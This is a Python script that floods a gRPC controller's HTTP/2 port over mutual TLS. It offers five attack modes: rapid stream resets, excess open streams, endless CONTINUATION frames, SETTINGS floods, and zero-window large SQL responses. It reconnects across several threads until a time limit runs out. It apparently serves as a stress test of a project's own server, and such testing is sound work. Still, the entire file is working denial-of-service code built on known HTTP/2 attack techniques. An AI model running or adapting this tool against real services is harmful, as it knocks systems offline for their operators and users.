#!/usr/bin/env python3
"""Floods a controller's TCP port with HTTP/2 frames that no gRPC client sends, by the certificate of an agent or viewer.

flood.py --to HOST:PORT --cert FILE --key FILE --ca FILE --kind KIND --connections N --seconds S
KIND  reset         streams that are reset at once
      open          streams without an end, more than SETTINGS allow
      continuation  a header block without an end
      settings      SETTINGS, whose acknowledgements are never read
      window        large answers to RunSql, for which no window is opened; by the certificate of a viewer
Opens a connection again when it is closed. Prints one line: bytes that were sent, and connections that were closed.
"""
import argparse
import socket
import ssl
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9  # RFC 9113, 6
END_HEADERS = 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header field without indexing (RFC 7541, 6.2.2), both parts shorter than 127 bytes."""
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


def block(path):
    """The headers of a call. :method POST and :scheme https are entries of the static table, :path and :authority by its names."""
    return (b"\x83\x87" + bytes([4, len(path)]) + path + bytes([1, 9]) + b"localhost" + literal(b"te", b"trailers")
            + literal(b"content-type", b"application/grpc"))


BLOCK = block(b"/railgauge.api.AgentLink/Attach")
SQL = (b"WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT 100000) "
       b"SELECT x, hex(zeroblob(150)) FROM c")  # 32 MB


def varint(number):
    some = b""
    while number > 127:
        some += bytes([number & 127 | 128])
        number >>= 7
    return some + bytes([number])


def calls_without_a_window():
    """A call a second, so that each has its answer before the next begins."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))  # INITIAL_WINDOW_SIZE
    request = b"\x0a" + varint(len(SQL)) + SQL + b"\x10" + varint(100000)  # SqlRequest
    message = b"\0" + struct.pack(">I", len(request)) + request
    for stream in range(1, 1 << 31, 2):
        yield frame(HEADERS, END_HEADERS, stream, block(b"/railgauge.api.Archive/RunSql")) + frame(DATA, 1, stream, message)
        time.sleep(1)


def pieces(kind):
    """The bytes of the attack, piece by piece, without an end."""
    if kind == "window":
        yield from calls_without_a_window()
    stream = 1
    if kind == "continuation":
        yield frame(HEADERS, 0, 1, BLOCK)
        while True:
            yield frame(CONTINUATION, 0, 1, literal(b"x-a", b"y" * 120) * 100) * 10
    while kind == "settings":
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 500
    while True:
        some = b""
        for _ in range(200):
            some += frame(HEADERS, END_HEADERS, stream, BLOCK)
            if kind == "reset":
                some += frame(RESET, 0, stream, struct.pack(">I", 8))
            stream += 2
        yield some


class Flood:
    def __init__(self, options):
        self.options = options
        self.ends_at = time.monotonic() + options.seconds
        self.lock = threading.Lock()
        self.sent = 0
        self.closed = 0

    def connect(self):
        host, port = self.options.to.rsplit(":", 1)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.load_verify_locations(self.options.ca)
        context.load_cert_chain(self.options.cert, self.options.key)
        context.set_alpn_protocols(["h2"])
        return context.wrap_socket(socket.create_connection((host, int(port)), timeout=1))

    def run(self):
        while time.monotonic() < self.ends_at:
            try:
                with self.connect() as connection:
                    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
                    self.attack(connection)
            except OSError:  # closed, or held up for a second
                with self.lock:
                    self.closed += 1
                time.sleep(0.02)

    def attack(self, connection):
        for piece in pieces(self.options.kind):
            if time.monotonic() >= self.ends_at:
                return
            connection.sendall(piece)
            with self.lock:
                self.sent += len(piece)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    for name in ("to", "cert", "key", "ca"):
        parser.add_argument("--" + name, required=True)
    parser.add_argument("--kind", required=True, choices=["reset", "open", "continuation", "settings", "window"])
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--seconds", type=float, default=3)
    flood = Flood(parser.parse_args())
    threads = [threading.Thread(target=flood.run) for _ in range(flood.options.connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(f"{flood.options.kind}: {flood.sent} bytes sent, {flood.closed} connections closed")


if __name__ == "__main__":
    main()
